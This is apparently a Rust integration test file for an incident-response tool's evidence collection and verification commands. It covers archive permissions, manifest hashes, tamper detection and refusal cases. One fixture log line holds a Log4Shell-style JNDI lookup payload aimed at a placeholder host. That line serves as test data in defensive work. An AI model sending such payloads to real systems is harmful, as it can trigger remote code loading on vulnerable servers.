//! `cverun evidence collect | verify` through the real binary.

mod common;

use std::path::Path;

use common::{Run, bin};

fn run(dir: &Path, actor: &str, args: &[&str]) -> Run {
    let out = bin()
        .current_dir(dir)
        .env("CVERUN_ACTOR", actor)
        .env_remove("CVERUN_STATE")
        .env_remove("CVERUN_DATABASE_URL")
        .args(args)
        .output()
        .expect("run cverun");
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

const ID: &str = "INC-2026-11-23-1";

fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    std::fs::create_dir_all(p.join("app")).unwrap();
    std::fs::write(p.join("app/requirements.txt"), "jinja2==2.10\n").unwrap();
    std::fs::write(p.join("access.log"), "GET /${jndi:ldap://evil}\n").unwrap();
    let r = run(
        p,
        "alice",
        &[
            "incident",
            "declare",
            "--advisory",
            "CVE-2021-44228",
            "--priority",
            "P0",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    dir
}

#[test]
fn collect_record_and_verify() {
    let dir = project();
    let p = dir.path();
    let r = run(
        p,
        "alice",
        &[
            "evidence",
            "collect",
            "--incident",
            ID,
            "--logs",
            "access.log",
            "--root",
            ".",
            "-o",
            "e.tar.gz",
            "--format",
            "json",
        ],
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let j: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(j["schema"], "cverun.evidence/1");
    let sha = j["manifest_sha256"].as_str().unwrap().to_owned();
    let paths: Vec<&str> = j["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.contains(&"lockfiles/app/requirements.txt"),
        "{paths:?}"
    );
    assert!(paths.contains(&"logs/access.log"), "{paths:?}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(p.join("e.tar.gz"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600, "readable only by its owner");
    }
    // The timeline records the manifest hash.
    let t = run(
        p,
        "viewer",
        &["incident", "timeline", ID, "--format", "json"],
    );
    let t: serde_json::Value = serde_json::from_str(&t.stdout).unwrap();
    let last = t["events"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["kind"], "evidence");
    assert_eq!(last["details"]["manifest_sha256"], sha.as_str());

    let v = run(
        p,
        "auditor",
        &["evidence", "verify", "e.tar.gz", "--incident", ID],
    );
    assert_eq!(v.code, 0, "{}{}", v.stdout, v.stderr);
    assert!(
        v.stdout.contains("recorded in the timeline"),
        "{}",
        v.stdout
    );

    // Another archive with a valid manifest, but not the one recorded.
    std::fs::write(p.join("access.log"), "rewritten\n").unwrap();
    let r = run(
        p,
        "mallory",
        &[
            "evidence",
            "collect",
            "--incident",
            ID,
            "--logs",
            "access.log",
            "-o",
            "f.tar.gz",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let mut s = cverun_incident::Store::sqlite(&p.join(".cverun/incidents.sqlite3")).unwrap();
    s.execute_raw(&format!(
        "DELETE FROM events WHERE incident_id = '{ID}' AND kind = 'evidence' AND actor = 'mallory'"
    ))
    .unwrap();
    let v = run(
        p,
        "auditor",
        &[
            "evidence",
            "verify",
            "f.tar.gz",
            "--incident",
            ID,
            "--format",
            "json",
        ],
    );
    assert_eq!(v.code, 1, "{}{}", v.stdout, v.stderr);
    let v: serde_json::Value = serde_json::from_str(&v.stdout).unwrap();
    assert_eq!(v["valid"], false);
    assert_eq!(v["recorded"], false);
    assert!(
        v["problems"]
            .to_string()
            .contains("is not recorded in the timeline"),
        "{v}"
    );
    assert!(
        v["problems"].to_string().contains("fails verification"),
        "{v}"
    );

    // A changed member is named.
    let bytes = std::fs::read(p.join("e.tar.gz")).unwrap();
    let mut entries = Vec::new();
    let mut a = tar::Archive::new(flate2::read::GzDecoder::new(&bytes[..]));
    for e in a.entries().unwrap() {
        let mut e = e.unwrap();
        let name = e.path().unwrap().to_string_lossy().into_owned();
        let mut data = Vec::new();
        std::io::Read::read_to_end(&mut e, &mut data).unwrap();
        if name == "logs/access.log" {
            data = b"GET /\n".to_vec();
        }
        entries.push((name, data));
    }
    let mut b = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (name, data) in &entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        b.append_data(&mut h, name, &data[..]).unwrap();
    }
    std::fs::write(
        p.join("tampered.tar.gz"),
        b.into_inner().unwrap().finish().unwrap(),
    )
    .unwrap();
    let v = run(p, "auditor", &["evidence", "verify", "tampered.tar.gz"]);
    assert_eq!(v.code, 1);
    assert!(
        v.stdout
            .contains("logs/access.log: content differs from the manifest"),
        "{}",
        v.stdout
    );
}

#[test]
fn the_default_location_and_refusals() {
    let dir = project();
    let p = dir.path();
    let r = run(
        p,
        "alice",
        &["evidence", "collect", "--incident", ID, "--root", "app"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let expected = p.join(".cverun/evidence/INC-2026-11-23-1-20261123T120000Z.tar.gz");
    assert!(expected.is_file(), "{}", r.stdout);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(p.join(".cverun/evidence"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o700);
    }
    // The same second again: evidence is never overwritten.
    let r = run(
        p,
        "alice",
        &["evidence", "collect", "--incident", ID, "--root", "app"],
    );
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("never overwritten"), "{}", r.stderr);

    let r = run(
        p,
        "alice",
        &[
            "evidence",
            "collect",
            "--incident",
            "INC-2026-11-23-5",
            "-o",
            "x.tar.gz",
        ],
    );
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("no incident INC-2026-11-23-5"),
        "{}",
        r.stderr
    );
    assert!(!p.join("x.tar.gz").exists());
    let r = run(
        p,
        "alice",
        &[
            "evidence",
            "collect",
            "--incident",
            ID,
            "--logs",
            "nope.log",
            "-o",
            "y.tar.gz",
        ],
    );
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("cannot read log nope.log"),
        "{}",
        r.stderr
    );
    assert!(!p.join("y.tar.gz").exists());
    let events = run(
        p,
        "viewer",
        &["incident", "timeline", ID, "--format", "json"],
    );
    let events: serde_json::Value = serde_json::from_str(&events.stdout).unwrap();
    let kinds: Vec<&str> = events["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        vec!["declared", "evidence"],
        "only the successful collection is recorded"
    );
    let r = run(p, "auditor", &["evidence", "verify", "missing.tar.gz"]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("cannot read missing.tar.gz"),
        "{}",
        r.stderr
    );
}
